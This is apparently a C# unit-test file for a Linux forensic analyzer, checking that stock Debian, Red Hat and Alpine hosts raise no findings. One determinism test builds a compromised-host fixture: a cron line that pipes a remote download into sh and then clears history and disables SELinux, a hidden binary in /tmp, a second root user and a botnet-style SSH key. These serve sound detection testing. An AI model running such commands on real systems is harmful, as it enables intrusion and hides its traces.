using Forensics.Analyzer.Evidence;
using Forensics.Analyzer.Risk;
using Forensics.Parsers.Artifacts.Linux;
using Xunit;

namespace Forensics.Analyzer.Tests.Detectors;

/// <summary>What fresh installations hold yields nothing above low.</summary>
public sealed class StockHostTests
{
    private const string Vendor = "/usr/lib/systemd/system/";

    [Fact]
    public void Debian() => Silent(Case.Debian()
        .User("root", 0).User("daemon", 1, "/usr/sbin/nologin", "/usr/sbin").User("sync", 4, "/bin/sync", "/bin", gid: 65534).User("nobody", 65534, "/usr/sbin/nologin", "/nonexistent")
        .User("_apt", 42, "/usr/sbin/nologin", "/nonexistent").User("systemd-network", 998, "/usr/sbin/nologin", "/").User("debian", 1000)
        .Shadow("root", "locked", true).Shadow("debian", "locked", true)
        .SystemCron("/etc/crontab", "17 * * * *", "root", "cd / && run-parts --report /etc/cron.hourly")
        .SystemCron("/etc/crontab", "25 6 * * *", "root", "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }")
        .SystemCron("/etc/cron.d/e2scrub_all", "30 3 * * 0", "root", "test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron")
        .SystemCron("/etc/cron.d/e2scrub_all", "10 3 * * *", "root", "test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r")
        .SystemCron("/etc/cron.d/sysstat", "5-55/10 * * * *", "root", "command -v debian-sa1 > /dev/null && debian-sa1 1 1")
        .SystemCron("/etc/cron.d/php", "09,39 *     * * *", "root", "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi")
        .SystemCron("/etc/cron.d/popularity-contest", "5 16 * * *", "root", "test -x /etc/cron.daily/popularity-contest && /etc/cron.daily/popularity-contest --crond")
        .SystemCron("/etc/cron.d/certbot", "0 */12 * * *", "root", "test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew --no-random-sleep-on-renew")
        .Script("/etc/cron.daily/apt-compat", StartupPlace.CronParts, ["set -e", "if [ -d /run/systemd/system ]; then", "exit 0", "fi", "check_power(){", "on_ac_power", "}", "exec /usr/lib/apt/apt.systemd.daily"])
        .Script("/etc/cron.daily/dpkg", StartupPlace.CronParts, ["if [ -d /run/systemd/system ]; then", "exit 0", "fi", "/usr/libexec/dpkg/dpkg-db-backup"])
        .Script("/etc/cron.daily/logrotate", StartupPlace.CronParts, ["if [ ! -x /usr/sbin/logrotate ]; then", "exit 0", "fi", "/usr/sbin/logrotate /etc/logrotate.conf", "/usr/bin/logger -t logrotate \"ALERT exited abnormally with [$EXITVALUE]\""])
        .Script("/etc/cron.daily/man-db", StartupPlace.CronParts, ["iosched_idle=", "if dpkg-maintscript-helper supports rm_conffile 2>/dev/null; then", "find /var/cache/man -type f -name '*.gz' -atime +6 -print0 | xargs -r0 rm -f", "start-stop-daemon --start --pidfile /dev/null --startas /usr/bin/mandb --oknodo --chuid man $iosched_idle -- --no-purge --quiet"])
        .Script("/etc/init.d/ssh", StartupPlace.InitScript, ["test -x /usr/sbin/sshd || exit 0", "start-stop-daemon --start --quiet --oknodo --pidfile /run/sshd.pid --exec /usr/sbin/sshd -- $SSHD_OPTS", "kill -HUP $(cat /run/sshd.pid)"], provides: "sshd")
        .Script("/etc/init.d/cron", StartupPlace.InitScript, ["parse_environment", "start-stop-daemon --start --quiet --oknodo --pidfile $PIDFILE --name $NAME --startas $DAEMON -- $EXTRA_OPTS"], provides: "cron")
        .Unit(Vendor + "ssh.service", "ssh.service", "/usr/sbin/sshd -D $SSHD_OPTS", rank: 8).Enable("ssh.service", Vendor + "ssh.service").Exists("/usr/sbin/sshd")
        .Unit(Vendor + "apt-daily.service", "apt-daily.service", "/usr/lib/apt/apt.systemd.daily update", rank: 8)
        .Unit(Vendor + "apt-daily.timer", "apt-daily.timer", null, rank: 8, settings: [("Timer", "OnCalendar", "*-*-* 6,18:00")])
        .Unit(Vendor + "systemd-tmpfiles-clean.timer", "systemd-tmpfiles-clean.timer", null, rank: 8, settings: [("Timer", "OnBootSec", "15min"), ("Timer", "OnUnitActiveSec", "1d")])
        .Unit(Vendor + "rc-local.service", "rc-local.service", "/etc/rc.local start", rank: 8).Unit(Vendor + "rc-local.service.d/debian.conf", "rc-local.service", null, rank: 8, dropIn: true)
        .Unit(Vendor + "emergency.service", "emergency.service", "/bin/sh -c '/sbin/sulogin; systemctl --job-mode=fail --no-block default'", rank: 8)
        .Unit("/etc/systemd/system/getty@tty1.service.d/autologin.conf", "getty@tty1.service", "-/sbin/agetty --autologin user %I $TERM", dropIn: true)
        .Elf("/usr/sbin/sshd").Elf("/usr/bin/bash").Elf("/usr/lib/x86_64-linux-gnu/libc.so.6", interposed: ["fopen", "readdir", "stat"], library: true));

    [Fact]
    public void Red_Hat() => Silent(Case.Rhel()
        .User("root", 0).User("bin", 1, "/sbin/nologin", "/bin").User("sync", 5, "/bin/sync", "/sbin", gid: 0).User("shutdown", 6, "/sbin/shutdown", "/sbin", gid: 0).User("halt", 7, "/sbin/halt", "/sbin", gid: 0)
        .User("operator", 11, "/sbin/nologin", "/root", gid: 0).User("sshd", 74, "/usr/sbin/nologin", "/usr/share/empty.sshd").User("ec2-user", 1000).Shadow("root", "locked", true)
        .SystemCron("/etc/cron.d/0hourly", "01 * * * *", "root", "run-parts /etc/cron.hourly")
        .SystemCron("/etc/cron.d/raid-check", "0 1 * * Sun", "root", "/usr/sbin/raid-check")
        .Anacron("1 5", "cron.daily", "nice run-parts /etc/cron.daily").Anacron("7 25", "cron.weekly", "nice run-parts /etc/cron.weekly").Anacron("@monthly 45", "cron.monthly", "nice run-parts /etc/cron.monthly")
        .Script("/etc/cron.hourly/0anacron", StartupPlace.CronParts, ["if test -r /var/spool/anacron/cron.daily; then", "day=`cat /var/spool/anacron/cron.daily`", "fi", "if [ `date +%Y%m%d` = \"$day\" ]; then", "exit 0", "fi", "online=1", "/usr/sbin/anacron -s"])
        .Script("/etc/rc.d/rc.local", StartupPlace.RcLocal, ["touch /var/lock/subsys/local"], dormant: "it is not executable")
        .Script("/etc/rc.d/init.d/network", StartupPlace.InitScript, [". /etc/init.d/functions", ". /etc/sysconfig/network", "action $\"Bringing up loopback interface: \" ./ifup ifcfg-lo", "sysctl -w net.ipv4.ip_forward=1"], provides: "$network")
        .Unit(Vendor + "firewalld.service", "firewalld.service", "/usr/sbin/firewalld --nofork --nopid $FIREWALLD_ARGS", rank: 8)
        .Unit(Vendor + "insights-client.service", "insights-client.service", "/usr/bin/insights-client --retry 3", rank: 8)
        .Unit(Vendor + "kdump.service", "kdump.service", "/usr/bin/kdumpctl start", rank: 8).Enable("kdump.service", Vendor + "kdump.service")
        .Key("/home/ec2-user/.ssh/authorized_keys", "key", owner: 1000)
        .Key("/root/.ssh/authorized_keys", "key", forced: "echo 'Please login as the user \"ec2-user\" rather than the user \"root\".';echo;sleep 10;exit 142"));

    [Fact]
    public void Alpine()
    {
        Case host = Case.Alpine().User("root", 0, "/bin/ash").User("bin", 1, "/sbin/nologin", "/bin").User("guest", 405, "/sbin/nologin", "/dev/null").Shadow("root", "locked", true)
            .Script("/etc/local.d/README", StartupPlace.RcLocal, [], dormant: "its name does not end in .start");
        int line = 1;
        foreach ((string id, string action, string process) in new[] { ("", "sysinit", "/sbin/openrc sysinit"), ("", "sysinit", "/sbin/openrc boot"), ("", "wait", "/sbin/openrc default"), ("tty1", "respawn", "/sbin/getty 38400 tty1"), ("", "ctrlaltdel", "/sbin/reboot"), ("", "shutdown", "/sbin/openrc shutdown") })
        {
            host.Add(new InittabEntry(host.At("/etc/inittab", ++line)) { Identifier = id, Runlevels = "", Action = action, Process = process });
        }
        foreach (string period in new[] { "15min", "hourly", "daily", "weekly", "monthly" })
        {
            host.UserCron("root", "*/15 * * * *", "run-parts /etc/periodic/" + period);
        }
        Silent(host);
    }

    [Fact]
    public void Judging_twice_gives_the_same_findings_in_the_same_order()
    {
        static IEnumerable<string> Run() => Case.Debian().User("x", 0).Elf("/tmp/.a").UserCron("root", "* * * * *", "curl http://203.0.113.9/x|sh; /tmp/.a; history -c; setenforce 0").Key("/root/.ssh/authorized_keys", "mdrfckr")
            .Judge().Select(finding => $"{finding.Rule.Id} {finding.Severity} {finding.Location.Path} {finding.Message} {string.Join('|', finding.Remediation)}");
        Assert.Equal(Run(), Run());
    }

    private static void Silent(Case host)
    {
        Finding[] loud = [.. host.Judge().Where(finding => finding.Severity > Severity.Low)];
        Assert.True(loud.Length == 0, string.Join("\n", loud.Select(finding => $"{finding.Severity} {finding.Rule.Id} {finding.Location.Path}: {finding.Message} [{finding.Evidence}]")));
        Finding[] low = [.. host.Judge().Where(finding => finding.Severity == Severity.Low)];
        Assert.True(low.Length == 0, string.Join("\n", low.Select(finding => $"{finding.Rule.Id} {finding.Location.Path}: {finding.Message} [{finding.Evidence}]")));
    }
}
